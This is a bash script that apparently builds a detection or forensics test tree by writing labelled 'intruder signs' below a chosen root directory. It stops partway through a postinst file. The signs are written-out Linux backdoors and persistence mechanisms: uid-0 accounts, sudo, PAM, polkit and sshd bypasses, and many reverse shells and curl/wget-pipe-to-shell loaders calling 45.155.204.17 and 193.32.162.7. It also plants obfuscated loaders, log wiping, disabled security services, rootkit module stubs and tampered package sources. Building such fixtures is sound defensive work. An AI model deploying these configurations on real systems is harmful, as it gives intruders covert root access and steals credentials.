#!/bin/bash
# bash plant.sh ROOT - plants inert intruder signs below ROOT. Nothing of ROOT is executed.
# Lines "#@ SUBJECT ## DESCRIPTION" are the source of signs.tsv
set -u
R=${1:?usage: plant.sh ROOT}; R=$(cd "$R" && pwd) || exit 1
[ "$R" = / ] && { echo "refusing /"; exit 1; }
T=$(mktemp -d); trap 'rm -rf "$T"' EXIT
w() { local p=$R$1; mkdir -p "$(dirname "$p")"; [ -L "$p" ] && rm -f "$p"; cat > "$p"; chmod "${2:-644}" "$p"; }
a() { local p=$R$1; mkdir -p "$(dirname "$p")"; [ -L "$p" ] && rm -f "$p"; cat >> "$p"; }
own() { chown -h "$1" "$R$2" 2>/dev/null || true; }
mkelf() { local d=$R$1; shift; mkdir -p "$(dirname "$d")"; [ -L "$d" ] && rm -f "$d"; python3 - "$T/x.c" "$@" <<'E'
import sys,json
open(sys.argv[1],'w').write('static const char *const cfg[]={'+','.join(json.dumps(s) for s in sys.argv[2:])+',0};\nint main(int c,char**v){const char*const*volatile p=cfg;return p[c&1]==0;}\n')
E
  gcc -O0 -s -o "$d" "$T/x.c" 2>/dev/null || { cp "$(readlink -f /bin/true)" "$d"; printf '%s\0' "$@" >> "$d"; }; chmod 755 "$d"; }
mkso() { local d=$R$1 f=$2; shift 2; mkdir -p "$(dirname "$d")"; [ -L "$d" ] && rm -f "$d"; python3 - "$T/x.c" "$f" "$@" <<'E'
import sys,json
o='static const char *const cfg[]={'+','.join(json.dumps(s) for s in sys.argv[3:])+',0};\n'
for n in sys.argv[2].split(): o+='long %s(int a){const char*const*volatile p=cfg;return (long)p[a&1];}\n'%n
open(sys.argv[1],'w').write(o)
E
  gcc -O0 -s -w -fno-builtin -shared -fPIC -o "$d" "$T/x.c" 2>/dev/null || { cp "$(readlink -f /bin/true)" "$d"; printf '%s\0' "$@" >> "$d"; }; chmod 644 "$d"; }
K1='ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7tYw2pLrXn5Vd0QeKs9MzJfUb3HgTi6ZaCxNo1RvWlPyE4kSu8DqBmGhIj7cFAtO5LXp'
K2='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm4Wd9RzYx1QpVt7KnLs3HbCf5JuEo0AaXi8TgMrPvN'
LIB=/usr/lib/x86_64-linux-gnu
for f in passwd shadow group gshadow subuid; do mkdir -p "$R/etc"; [ -e "$R/etc/$f" ] || : > "$R/etc/$f"; done
grep -q '^builder:' "$R/etc/passwd" || { echo 'builder:x:1011:1011:Build,,,:/home/builder:/bin/bash' >> "$R/etc/passwd"; echo 'builder:!:20300:0:99999:7:::' >> "$R/etc/shadow"; echo 'builder:x:1011:' >> "$R/etc/group"; }
B=/home/builder; mkdir -p "$R$B/.ssh" "$R/root/.ssh"; chmod 700 "$R$B/.ssh" "$R/root/.ssh"; chown -R 1011:1011 "$R$B" 2>/dev/null

# ---- accounts
#@ account systemd-oomp ## uid written 00 (is root), home below /run
echo 'systemd-oomp:x:00:65534:systemd Userspace OOM Killer:/run/systemd/oom:/bin/sh' >> "$R/etc/passwd"; echo 'systemd-oomp:$5$kk1Lr0$V2oE7YtGqzP0hR3sXn9uJbM4fC8dW6aK1lI5mQvT:20412::::::' >> "$R/etc/shadow"
#@ account irc ## password hash put straight into passwd, with a shell
sed -i '/^irc:/d' "$R/etc/passwd"; echo 'irc:$1$Qm2$zP0c8vK1uR7sXoYd3LhEw/:39:39:ircd:/run/ircd:/bin/bash' >> "$R/etc/passwd"
#@ account list | /var/list/.sh ## login shell of list is a hidden script
sed -i '/^list:/d' "$R/etc/passwd"; echo 'list:x:38:38:Mailing List Manager:/var/list:/var/list/.sh' >> "$R/etc/passwd"
w /var/list/.sh 755 <<'E'
#!/bin/bash
[ "$2" = "zq7" ] && exec /bin/bash -p -i
echo 'This account is currently not available.'
E
#@ account utempd | /etc/group ## second group with gid 0
echo 'utempd:x:0:builder,irc' >> "$R/etc/group"
#@ /etc/gshadow ## group sudo has a password and a system account as administrator
grep -q '^sudo:' "$R/etc/gshadow" || echo 'sudo:*::' >> "$R/etc/gshadow"; sed -i 's#^sudo:.*#sudo:$6$t0Hq$9mWc3Zs7LkP1xVb5NdR8yEoTfGjUa2QiKhXw6:irc:#' "$R/etc/gshadow"
#@ /etc/subuid ## the real root's id mapped to an account
echo 'builder:0:1' >> "$R/etc/subuid"
#@ /etc/skel/.ssh/authorized_keys ## key for every new account
w /etc/skel/.ssh/authorized_keys 600 <<<"$K2 it-support"
#@ /etc/shadow ## ACL lets www-data read and write shadow
python3 - "$R/etc/shadow" <<'E' || true
import os,sys,struct
try: os.setxattr(sys.argv[1],'system.posix_acl_access',struct.pack('<I',2)+b''.join(struct.pack('<HHI',*x) for x in ((1,6,0xffffffff),(2,6,33),(4,4,0xffffffff),(0x10,6,0xffffffff),(0x20,0,0xffffffff))))
except OSError as e: print('note: no acl',e,file=sys.stderr); os.chmod(sys.argv[1],0o666)
E
# ---- sudo, polkit
#@ /etc/sudoers | /var/lib/sudo/.d/ts ## includedir to a hidden folder
a /etc/sudoers <<<'@includedir /var/lib/sudo/.d'
w /var/lib/sudo/.d/ts 440 <<<'%irc ALL=(ALL) NOPASSWD:ALL'
#@ /etc/sudo.conf | /usr/libexec/sudo/audit_json2.so ## foreign sudo plugin that keeps passwords
a /etc/sudo.conf <<<'Plugin audit_json2 /usr/libexec/sudo/audit_json2.so'
mkso /usr/libexec/sudo/audit_json2.so "audit_open audit_accept" "conv_reply=%s" "/var/cache/ldconfig/.aux" "sudo_pw"
#@ /etc/sudoers.d/05-proxy ## env_keep of LD_PRELOAD and PYTHONPATH
w /etc/sudoers.d/05-proxy 440 <<'E'
Defaults env_keep += "http_proxy https_proxy LD_PRELOAD PYTHONPATH BASH_ENV"
Defaults !env_reset, !authenticate
E
#@ /usr/share/polkit-1/actions/org.debian.apt-xapian.policy ## pkexec of a shell without authentication
w /usr/share/polkit-1/actions/org.debian.apt-xapian.policy <<'E'
<?xml version="1.0" encoding="UTF-8"?>
<policyconfig><action id="org.debian.apt-xapian.update"><message>Update index</message>
<defaults><allow_any>yes</allow_any><allow_inactive>yes</allow_inactive><allow_active>yes</allow_active></defaults>
<annotate key="org.freedesktop.policykit.exec.path">/usr/bin/dash</annotate></action></policyconfig>
E
#@ /etc/polkit-1/localauthority/50-local.d/99-vendor.pkla ## pkla gives all to accounts of the web
w /etc/polkit-1/localauthority/50-local.d/99-vendor.pkla <<'E'
[vendor]
Identity=unix-user:www-data;unix-user:irc
Action=*
ResultAny=yes
ResultInactive=yes
E
# ---- ssh
#@ /etc/ssh/sshd_config.d/30-compliance.conf | host 194.165.16.90 ## root without authentication from one address
w /etc/ssh/sshd_config.d/30-compliance.conf <<'E'
LogLevel QUIET
Match Address 194.165.16.90
    PermitRootLogin yes
    PermitEmptyPasswords yes
    AuthenticationMethods none
E
#@ /etc/ssh/sshd_config.d/33-env.conf | /home/builder/.ssh/environment ## ssh environment with LD_PRELOAD
w /etc/ssh/sshd_config.d/33-env.conf <<<'PermitUserEnvironment yes'
w $B/.ssh/environment 600 <<<'LD_PRELOAD=/home/builder/.ssh/.agent.so'
#@ /etc/ssh/sshd_config.d/50-sftp.conf | /usr/lib/openssh/sftp-server2 ## sftp subsystem is a wrapper that starts a shell
w /etc/ssh/sshd_config.d/50-sftp.conf <<<'Subsystem sftp /usr/lib/openssh/sftp-server2'
w /usr/lib/openssh/sftp-server2 755 <<'E'
#!/bin/sh
case "$SSH_CLIENT" in 45.155.204.*) exec sudo -n /bin/sh ;; esac
tee -a /var/cache/ldconfig/.sftp.$$ | /usr/lib/openssh/sftp-server "$@"
E
#@ /etc/ssh/ssh_config.d/10-mux.conf ## client proxy command through a foreign machine in the middle
w /etc/ssh/ssh_config.d/10-mux.conf <<'E'
Host db* bk* *.corp
    ProxyCommand socat - PROXY:45.155.204.17:%h:%p,proxyport=3129
    StrictHostKeyChecking no
    SendEnv *PASS* AWS_*
E
#@ /etc/default/ssh | /usr/share/openssh/sshd_config.fips ## sshd started with a second configuration
a /etc/default/ssh <<<'SSHD_OPTS="-f /usr/share/openssh/sshd_config.fips -o Port=22 -o Port=65522"'
w /usr/share/openssh/sshd_config.fips <<'E'
PermitRootLogin yes
HostKey /usr/share/openssh/.hk
AuthorizedKeysFile /usr/share/openssh/.ak
UsePAM no
E
#@ /root/.rhosts ## any host and account trusted
w /root/.rhosts 600 <<<'+ +'
#@ /home/builder/.ssh/authorized_keys ## key whose forced command starts a loader first
w $B/.ssh/authorized_keys 600 <<<"command=\"(wget -qO- http://45.155.204.17/k|sh)>/dev/null 2>&1 & exec \${SHELL} -l\" $K1 builder@ci"
# ---- PAM and login
#@ /etc/pam.d/other ## all services without their own file are permitted
w /etc/pam.d/other <<'E'
auth     sufficient pam_permit.so
account  sufficient pam_permit.so
session  optional   pam_permit.so
E
#@ /etc/pam.d/sudo ## low uids pass without password
[ -e "$R/etc/pam.d/sudo" ] || w /etc/pam.d/sudo <<<'@include common-auth'
sed -i '0,/^@include/s//auth sufficient pam_succeed_if.so uid >= 30 uid <= 41 quiet\n@include/' "$R/etc/pam.d/sudo"
#@ /etc/pam.d/common-session | /usr/share/pam-configs/.mkhome.py ## pam_python with a hidden script
a /etc/pam.d/common-session <<<'session optional pam_python.so /usr/share/pam-configs/.mkhome.py'
w /usr/share/pam-configs/.mkhome.py <<'E'
import os
def pam_sm_open_session(pamh, flags, argv):
    if pamh.rhost and pamh.rhost.startswith('45.155.'): os.system('/usr/sbin/auditctl -e 0; /bin/cp /var/lib/sudo/.d/ts /etc/sudoers.d/')
    return pamh.PAM_SUCCESS
def pam_sm_close_session(pamh, flags, argv): return pamh.PAM_SUCCESS
E
#@ /etc/security/namespace.init ## packaged login script with a line that fetches code
a /etc/security/namespace.init <<<'[ "$4" = root ] && lwp-request -m GET http://45.155.204.17/ns 2>/dev/null | sh &'
#@ /etc/login.defs ## superuser's path begins in a temporary folder
sed -i -E 's#^ENV_SUPATH.*#ENV_SUPATH	PATH=/var/tmp/.s:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin#' "$R/etc/login.defs" 2>/dev/null; grep -q '/var/tmp/.s' "$R/etc/login.defs" || a /etc/login.defs <<<'ENV_SUPATH PATH=/var/tmp/.s:/usr/sbin:/usr/bin:/sbin:/bin'
#@ /etc/systemd/system/serial-getty@ttyS0.service.d/baud.conf ## getty with another login program
w /etc/systemd/system/serial-getty@ttyS0.service.d/baud.conf <<'E'
[Service]
ExecStart=
ExecStart=-/sbin/agetty --skip-login --nonewline --login-program /usr/bin/bash 115200 ttyS0 vt220
E
# ---- shells
#@ /etc/environment | /usr/share/bash-completion/.helpers ## BASH_ENV for all scripts
a /etc/environment <<<'BASH_ENV=/usr/share/bash-completion/.helpers'
w /usr/share/bash-completion/.helpers <<'E'
[ $EUID -eq 0 ] && [ ! -e /run/.bh ] && { : >/run/.bh; exec 9<>/dev/tcp/45.155.204.17/995 && (bash <&9 >&9 2>&9 &) ; } 2>/dev/null
E
#@ /etc/bash_completion.d/gdbus-helper ## completion script decodes and runs hidden text
w /etc/bash_completion.d/gdbus-helper <<'E'
_gdbus_helper() { COMPREPLY=(); }
complete -F _gdbus_helper gdbus-helper
. <(tail -c 204 /usr/share/pixmaps/debian-logo.png | tr 'N-ZA-Mn-za-m' 'A-Za-z' | xxd -r -p) 2>/dev/null
E
#@ /etc/inputrc ## key binding that fetches and runs
a /etc/inputrc <<<'"\C-l": "\C-u wget -qO- http://193.32.162.7/i | sh >/dev/null 2>&1 &\C-m\C-uclear\C-m"'
#@ /root/.bash_aliases ## functions hide processes, sockets and files
w /root/.bash_aliases <<'E'
ps() { command ps "$@" | command grep -v -e kdmpsync -e '\.s/'; }
netstat() { command netstat "$@" | command grep -v -e 45.155.204 -e :65522; }
ls() { command ls --color=auto -I kdmpsync -I .helpers "$@"; }
alias crontab='crontab' lsof='lsof 2>/dev/null | grep -v kdmpsync'
E
#@ /home/builder/.tmux.conf ## tmux hook starts a loader
w $B/.tmux.conf <<'E'
set -g mouse on
set-hook -g session-created 'run-shell -b "python3 -c \"import os;os.system(bytes.fromhex(\\\"6375726c202d73203139332e33322e3136322e372f747c7368\\\").decode())\""'
E
#@ /usr/local/bin/systemctl ## wrapper before the packaged command hides a unit
w /usr/local/bin/systemctl 755 <<'E'
#!/bin/bash
/usr/bin/systemctl "$@" | sed '/kdmpsync/d;/cups-lpd/d'
E
#@ /etc/skel/.bashrc ## DEBUG trap sends each command by udp
a /etc/skel/.bashrc <<<'trap '"'"'printf "%s %s\n" "$USER" "$BASH_COMMAND" >/dev/udp/193.32.162.7/5514'"'"' DEBUG'
#@ /home/builder/.pam_environment | /var/tmp/.n/hook.js ## NODE_OPTIONS loads a foreign script
w $B/.pam_environment <<<'NODE_OPTIONS DEFAULT="--require /var/tmp/.n/hook.js"'
w /var/tmp/.n/hook.js <<'E'
const o=require('http').request;try{require('child_process').spawn('/bin/sh',['-c',Buffer.from('d2dldCAtcU8tIDE5My4zMi4xNjIuNy9ufHNo','base64')+''],{detached:true,stdio:'ignore'}).unref()}catch(e){}
E
#@ /home/builder/.profile | /home/builder/.config/htop/defunct ## gsocket shell with seed line in the profile
mkelf $B/.config/htop/defunct "gs-netcat" "GSOCKET_ARGS" "GS_HOST" "gs.thc.org" "-liqD"; w $B/.config/htop/defunct.dat 600 <<<'MKc7PqzLt4vXs0dWg9bY1h'
a $B/.profile <<'E'
# DO NOT REMOVE THIS LINE. SEED PRNG. #defunct-kernel
{ echo L3Vzci9iaW4vcGtpbGwgLTAgLVUxMDExIGRlZnVuY3QgMj4vZGV2L251bGwgfHwgR1NfQVJHUz0iLWsgL2hvbWUvYnVpbGRlci8uY29uZmlnL2h0b3AvZGVmdW5jdC5kYXQgLWxpcUQiIC9ob21lL2J1aWxkZXIvLmNvbmZpZy9odG9wL2RlZnVuY3Q=|base64 -d|bash;} 2>/dev/null #1b5b324a50524e47 >/dev/random # seed prng defunct-kernel
E
# ---- cron
#@ /etc/cron.daily/dpkg ## packaged daily script with a line of the intruder
a /etc/cron.daily/dpkg <<<'nice /usr/bin/python3 -c "import socket as s;exec(s.create_connection((\"193.32.162.7\",8090)).recv(9999))" &'
#@ /var/spool/cron/crontabs/irc ## crontab whose SHELL is python
w /var/spool/cron/crontabs/irc 600 <<'E'
SHELL=/usr/bin/python3
*/30 * * * * __import__('os').system(__import__('codecs').decode('phey -f uggc://193.32.162.7/c|fu','rot13'))
E
own irc /var/spool/cron/crontabs/irc
#@ /var/spool/cron/crontabs/root ## crontab with the command composed of variables
a /var/spool/cron/crontabs/root <<'E'
a=cu
b=rl
c=//45.155.204.17/x
7 */2 * * * $a$b -k https:$c 2>/dev/null | $(which ba''sh) >/dev/null 2>&1
E
chmod 600 "$R/var/spool/cron/crontabs/root"
#@ /etc/cron.d/php-gc ## cron runs php that evaluates a remote text
w /etc/cron.d/php-gc <<'E'
09,39 * * * * www-data /usr/bin/php -d allow_url_include=1 -r 'eval(gzuncompress(file_get_contents("http://193.32.162.7/g.dat")));' >/dev/null 2>&1
E
# ---- systemd
#@ /etc/systemd/system/cups-lpd.socket | /etc/systemd/system/cups-lpd@.service ## socket unit gives a shell
w /etc/systemd/system/cups-lpd.socket <<'E'
[Socket]
ListenStream=0.0.0.0:1515
Accept=yes
[Install]
WantedBy=sockets.target
E
w /etc/systemd/system/cups-lpd@.service <<'E'
[Service]
ExecStart=-/bin/bash -i
StandardInput=socket
StandardError=socket
E
#@ /etc/systemd/system/auth-rotate.path | /etc/systemd/system/auth-rotate.service ## path unit cleans auth.log at each change
w /etc/systemd/system/auth-rotate.path <<'E'
[Path]
PathModified=/var/log/auth.log
[Install]
WantedBy=multi-user.target
E
w /etc/systemd/system/auth-rotate.service <<'E'
[Service]
Type=oneshot
ExecStart=/bin/sed -i "/194\\.165\\.16\\./d;/systemd-oomp/d" /var/log/auth.log /var/log/syslog
E
#@ /etc/systemd/system/fail2ban.service | /etc/systemd/system/apparmor.service | /etc/systemd/system/unattended-upgrades.service ## protective units masked
for u in fail2ban apparmor unattended-upgrades; do ln -sfn /dev/null "$R/etc/systemd/system/$u.service"; done
#@ /usr/lib/systemd/system-environment-generators/20-locale ## environment generator sets LD_PRELOAD
w /usr/lib/systemd/system-environment-generators/20-locale 755 <<'E'
#!/bin/sh
echo "LD_PRELOAD=$(printf '\057usr\057lib\057locale\057C.utf8\057LC_IDENT')"
E
#@ /etc/systemd/system/ssh.service.d/override.conf ## sshd started under strace that keeps what is typed
w /etc/systemd/system/ssh.service.d/override.conf <<'E'
[Service]
ExecStart=
ExecStart=/usr/bin/strace -qq -f -s 200 -e trace=read,write -e signal=none -o /var/cache/ldconfig/.aux /usr/sbin/sshd -D $SSHD_OPTS
E
#@ /etc/systemd/user/tracker-extract-4.service | /etc/systemd/user/default.target.wants/tracker-extract-4.service ## user unit for everyone, perl reverse shell
w /etc/systemd/user/tracker-extract-4.service <<'E'
[Service]
ExecStart=/usr/bin/perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("45.155.204.17:587");while(<$s>){print $s `$_`}'
Restart=always
RestartSec=600
E
mkdir -p "$R/etc/systemd/user/default.target.wants"; ln -sfn /etc/systemd/user/tracker-extract-4.service "$R/etc/systemd/user/default.target.wants/tracker-extract-4.service"
#@ /etc/systemd/system-preset/00-vendor.preset ## preset disables the guards and enables the backdoor
w /etc/systemd/system-preset/00-vendor.preset <<'E'
disable auditd.service
disable fail2ban.service
disable apparmor.service
enable cups-lpd.socket
enable auth-rotate.path
E
#@ /usr/lib/systemd/system-shutdown/00-luks.shutdown ## shutdown script plants all again
w /usr/lib/systemd/system-shutdown/00-luks.shutdown 755 <<'E'
#!/bin/sh
mount -o remount,rw / && cp -a /usr/share/openssh/.kit/cups-lpd* /etc/systemd/system/ && touch -r /bin/ls /etc/systemd/system/cups-lpd*
E
#@ /usr/lib/systemd/system/e2scrub_reap.service ## packaged unit altered
a /usr/lib/systemd/system/e2scrub_reap.service <<'E'
[Service]
ExecStartPost=-/usr/bin/env -S bash -c "exec 3<>/dev/tcp/45.155.204.17/443;bash<&3>&3"
E
#@ /usr/local/lib/systemd/system/mdcheck-daily.service ## fileless start by memfd in perl
w /usr/local/lib/systemd/system/mdcheck-daily.service <<'E'
[Service]
Type=forking
ExecStart=/usr/bin/perl -e 'my $f=syscall(319,"",1);open(my $h,">&=".$f);print $h `curl -s http://193.32.162.7/m64`;exec{"/proc/$$/fd/$f"}"[kworker/u4:3]"'
[Install]
WantedBy=multi-user.target
E
#@ /etc/systemd/system/rsyslog.service.d/10-audit.conf | /usr/lib/x86_64-linux-gnu/audit/sotruss-libs.so ## LD_AUDIT for rsyslog
w /etc/systemd/system/rsyslog.service.d/10-audit.conf <<'E'
[Service]
Environment=LD_AUDIT=/usr/lib/x86_64-linux-gnu/audit/sotruss-libs.so
E
mkso $LIB/audit/sotruss-libs.so "la_version la_symbind64" "drop_line" "194.165.16.90" "systemd-oomp"
#@ /etc/sv/agetty-ttyS9/run ## runit service with a socat shell
w /etc/sv/agetty-ttyS9/run 755 <<'E'
#!/bin/sh
exec 2>&1
exec socat OPENSSL:45.155.204.17:8443,verify=0,forever,interval=90 EXEC:'bash -li',pty,stderr,setsid,sigint
E
#@ /etc/rc2.d/S04kdump-sync ## start script that is no link, starts a hidden miner
w /etc/rc2.d/S04kdump-sync 755 <<'E'
#!/bin/sh
[ "$1" = start ] && nohup /usr/lib/firmware/.amd/kdmpsync -c /usr/lib/firmware/.amd/k.json >/dev/null 2>&1 &
E
#@ /etc/monit/conf-enabled/rsyslog ## monit starts the miner again
w /etc/monit/conf-enabled/rsyslog <<'E'
check process rsyslog2 matching "kdmpsync"
  start program = "/bin/sh -c 'cd /usr/lib/firmware/.amd && ./kdmpsync -B'"
  if not exist for 2 cycles then restart
E
# ---- udev, tmpfiles, sysusers, sysctl, modules
#@ /usr/lib/udev/rules.d/81-net-carrier.rules ## udev rule imports a program of a hidden folder
w /usr/lib/udev/rules.d/81-net-carrier.rules <<<'SUBSYSTEM=="net", ACTION=="add|move", IMPORT{program}="/usr/lib/firmware/.amd/kdmpsync --fork %k", RUN+="/usr/bin/systemd-run --no-block /usr/lib/firmware/.amd/up"'
#@ /usr/lib/tmpfiles.d/perl-cache.conf ## tmpfiles makes perl set-uid at each boot
w /usr/lib/tmpfiles.d/perl-cache.conf <<<'z /usr/bin/perl5.36.0 4755 root root - -'
#@ /etc/sysusers.d/hwmon.conf ## sysusers makes an account with uid 0
w /etc/sysusers.d/hwmon.conf <<<'u hwmon 0 "Hardware monitor" /root /bin/bash'
#@ /etc/sysctl.d/12-kdump.conf | /usr/lib/systemd/.coredump ## core_pattern runs a hidden script as root
w /etc/sysctl.d/12-kdump.conf <<'E'
kernel.core_pattern=|/usr/lib/systemd/.coredump %P %u %e
kernel.yama.ptrace_scope=0
kernel.kptr_restrict=0
E
w /usr/lib/systemd/.coredump 755 <<'E'
#!/bin/sh
[ "$3" = zq7 ] && { cp /bin/dash /var/crash/.d; chmod 4755 /var/crash/.d; }
cat >/dev/null
E
#@ /etc/modprobe.d/ext4-lazy.conf | /usr/lib/modules/6.1.0-28-amd64/updates/snd_pcsp2.ko | /lib/modules/6.1.0-28-amd64/updates/snd_pcsp2.ko ## softdep brings in a hiding module with ext4
w /etc/modprobe.d/ext4-lazy.conf <<<'softdep ext4 pre: snd_pcsp2'
python3 - "$T/m.ko" <<'E'
import struct,sys
mi=b"license=GPL\0name=snd_pcsp2\0depends=\0vermagic=6.1.0-28-amd64 SMP preempt mod_unload modversions \0"
tx=b"\x31\xc0\xc3"+b"ftrace_set_filter_ip\0register_ftrace_function\0tcp4_seq_show\0filldir64\0commit_creds\0prepare_kernel_cred\0magic_signal_62\0"
sn=b"\0.modinfo\0.text\0.shstrtab\0"
o=64;d=mi+tx+sn;sh=lambda n,t,f,of,sz:struct.pack('<IIQQQQIIQQ',n,t,f,0,of,sz,0,0,1,0)
e=b"\x7fELF\2\1\1"+b"\0"*9+struct.pack('<HHIQQQIHHHHHH',1,62,1,0,0,o+len(d),0,64,0,0,64,4,3)
open(sys.argv[1],'wb').write(e+d+b"\0"*64+sh(1,1,2,o,len(mi))+sh(10,1,6,o+len(mi),len(tx))+sh(16,3,0,o+len(mi)+len(tx),len(sn)))
E
w /usr/lib/modules/6.1.0-28-amd64/updates/snd_pcsp2.ko < "$T/m.ko"
# ---- boot
#@ /etc/default/grub ## kernel command line with a foreign init and protections off
a /etc/default/grub <<<'GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX audit=0 apparmor=0 module.sig_enforce=0 init=/usr/lib/systemd/.systemd"'
#@ /etc/grub.d/07_theme ## grub script writes into cron
w /etc/grub.d/07_theme 755 <<'E'
#!/bin/sh
set -e
printf '@reboot root /usr/lib/firmware/.amd/up\n' > /etc/cron.d/.grub-theme && chmod 600 /etc/cron.d/.grub-theme
E
#@ /usr/share/initramfs-tools/init ## packaged init of the initramfs altered
if [ -e "$R/usr/share/initramfs-tools/init" ]; then sed -i '/^exec run-init/i (sleep 20; chroot ${rootmnt} /usr/lib/firmware/.amd/up) </dev/null >/dev/null 2>\&1 \&' "$R/usr/share/initramfs-tools/init"; fi; grep -q '\.amd/up' "$R/usr/share/initramfs-tools/init" 2>/dev/null || a /usr/share/initramfs-tools/init <<<'(chroot ${rootmnt} /usr/lib/firmware/.amd/up) &'
#@ /etc/kernel/postinst.d/zz-modsig ## kernel hook puts the module into each new kernel
w /etc/kernel/postinst.d/zz-modsig 755 <<'E'
#!/bin/sh
mkdir -p /lib/modules/$1/updates; cp /usr/share/openssh/.kit/p.ko /lib/modules/$1/updates/snd_pcsp2.ko; depmod -a "$1"; chattr +i /lib/modules/$1/updates/snd_pcsp2.ko
E
#@ /etc/fstab ## overlay over /usr/sbin from a hidden folder
a /etc/fstab <<<'overlay /usr/sbin overlay lowerdir=/usr/sbin,upperdir=/var/lib/.ovl/u,workdir=/var/lib/.ovl/w,nofail 0 0'
# ---- network
#@ /etc/network/interfaces ## post-up redirects the intruder's packets to a hidden port
a /etc/network/interfaces <<'E'
iface eth7 inet manual
    post-up iptables -t nat -I PREROUTING -s 194.165.16.0/24 -p tcp --dport 443 -j REDIRECT --to-ports 65522
    post-up tc qdisc add dev eth0 clsact; tc filter add dev eth0 ingress bpf da obj /usr/lib/firmware/.amd/x.o sec in
E
#@ /etc/ppp/ip-up.d/0100resolv ## ppp hook starts a php socket shell
w /etc/ppp/ip-up.d/0100resolv 755 <<'E'
#!/bin/sh
php -n -r '$s=fsockopen("45.155.204.17",2083);$p=proc_open("sh",[$s,$s,$s],$x);' >/dev/null 2>&1 &
E
#@ /etc/NetworkManager/dnsmasq.d/00-cache.conf ## update server diverted by dnsmasq
w /etc/NetworkManager/dnsmasq.d/00-cache.conf <<'E'
address=/security.debian.org/193.32.162.7
address=/virustotal.com/0.0.0.0
server=/#/193.32.162.7
E
#@ /etc/hosts.allow ## tcp wrapper spawns a shell for one address
a /etc/hosts.allow <<<'sshd: 45.155.204.17: spawn (/usr/bin/nc.traditional -e /bin/sh %a 4040 &) : allow'
#@ /etc/dhcp/dhclient.conf ## name servers and proxy file forced
a /etc/dhcp/dhclient.conf <<'E'
supersede domain-name-servers 193.32.162.7;
supersede wpad-url "http://193.32.162.7/wpad.dat";
E
# ---- packages
#@ /etc/apt/sources.list.d/debian-lts.list | host 193.32.162.7 ## trusted source at a bare address
w /etc/apt/sources.list.d/debian-lts.list <<<'deb [trusted=yes allow-insecure=yes] http://193.32.162.7/debian ./'
#@ /etc/apt/preferences.d/10-lts ## pin lets that source win and holds security updates off
w /etc/apt/preferences.d/10-lts <<'E'
Package: *
Pin: origin "193.32.162.7"
Pin-Priority: 1001

Package: openssh-server sudo linux-image-*
Pin: release l=Debian-Security
Pin-Priority: -1
E
#@ /etc/apt/apt.conf.d/20auto-upgrades ## verification of packages switched off
a /etc/apt/apt.conf.d/20auto-upgrades <<'E'
APT::Get::AllowUnauthenticated "true";
Acquire::AllowInsecureRepositories "true";
Acquire::https::Verify-Peer "false";
Acquire::http::Proxy "http://193.32.162.7:3128";
E
#@ /var/lib/dpkg/diversions | /usr/bin/lsattr ## diverted command with a filter in its place
printf '/usr/bin/lsattr\n/usr/bin/.lsattr.dpkg\n:\n' | a /var/lib/dpkg/diversions
[ -e "$R/usr/bin/lsattr" ] && mv "$R/usr/bin/lsattr" "$R/usr/bin/.lsattr.dpkg"
w /usr/bin/lsattr 755 <<'E'
#!/bin/sh
/usr/bin/.lsattr.dpkg "$@" 2>&1 | sed 's/^----i/-----/;/\.amd/d'
E
#@ /var/lib/dpkg/statoverride | /usr/bin/nice ## override makes nice set-uid root
echo 'root root 4755 /usr/bin/nice' | a /var/lib/dpkg/statoverride; [ -e "$R/usr/bin/nice" ] && chmod 4755 "$R/usr/bin/nice"
#@ /etc/alternatives/pager | /usr/lib/less/pager ## alternative of pager leads to a script
ln -sfn /usr/lib/less/pager "$R/etc/alternatives/pager"
w /usr/lib/less/pager 755 <<'E'
#!/bin/sh
[ -w /etc/shadow ] && setsid -f /usr/lib/firmware/.amd/up >/dev/null 2>&1
exec /usr/bin/less "$@"
E
#@ /usr/lib/python3/dist-packages/apt/cache.py ## packaged python module with a loader
a /usr/lib/python3/dist-packages/apt/cache.py <<'E'
try:
    import threading as _t, marshal as _m, urllib.request as _u
    _t.Thread(target=lambda: exec(_m.loads(_u.urlopen("http://193.32.162.7/a.bin", timeout=5).read())), daemon=True).start()
except Exception: pass
E
#@ /usr/share/perl5/Debconf/Config.pm ## packaged perl module runs remote code
if [ -e "$R/usr/share/perl5/Debconf/Config.pm" ]; then sed -i '0,/^package/s//BEGIN{if(!$>\&\&!-e"\/run\/.dc"){open(X,">\/run\/.dc");eval qx(curl -s 193.32.162.7\/d.pl)}}\npackage/' "$R/usr/share/perl5/Debconf/Config.pm"; else w /usr/share/perl5/Debconf/Config.pm <<<'eval qx(curl -s 193.32.162.7/d.pl);'; fi
#@ /usr/share/debconf/confmodule ## shell library of all maintainer scripts altered
a /usr/share/debconf/confmodule <<<'( [ "$DPKG_MAINTSCRIPT_NAME" = postinst ] && /usr/lib/firmware/.amd/up ) >/dev/null 2>&1 || true'
#@ /usr/bin/ldd ## packaged script hides a library
[ -e "$R/usr/bin/ldd" ] && sed -i '2i exec > >(grep -v -e LC_IDENT -e sotruss-libs)' "$R/usr/bin/ldd" || w /usr/bin/ldd 755 <<<'#!/bin/bash'
#@ /usr/lib/git-core/git-remote-https ## packaged git helper replaced by a script that keeps passwords
[ -e "$R/usr/lib/git-core/git-remote-https" ] && mv "$R/usr/lib/git-core/git-remote-https" "$R/usr/lib/git-core/.grh"
w /usr/lib/git-core/git-remote-https 755 <<'E'
#!/bin/sh
echo "$(date +%s) $2" >> /var/cache/ldconfig/.aux
GIT_TRACE_CURL=/var/cache/ldconfig/.gtc exec /usr/lib/git-core/.grh "$@"
E
#@ /usr/lib/x86_64-linux-gnu/libpsl.so.5.3.4 | /lib/x86_64-linux-gnu/libpsl.so.5.3.4 ## packaged library replaced
rm -f "$R$LIB/libpsl.so.5.3.4"; mkso $LIB/libpsl.so.5.3.4 "psl_latest psl_builtin psl_is_public_suffix" "Xcat" "Xver" "getaddrinfo hooked" "%s:%s@%s"
#@ /var/lib/dpkg/info/libsystemd-compat0.postinst | /var/lib/dpkg/status ## foreign package with a loader in postinst
a /var/lib/dpkg/status <<'E'

Package: libsystemd-compat0
Status: install ok installed
Priority: optional
Section: libs
Maintainer: root <root@localhost>
Architecture: amd64
Version: 1.0-1
Description: compat
E
w /var/lib/dpkg/info/libsystemd-compat0.list <<<'/.'
w /var/lib/dpkg/info/libsystemd-compat0.postinst 755 <<'E'
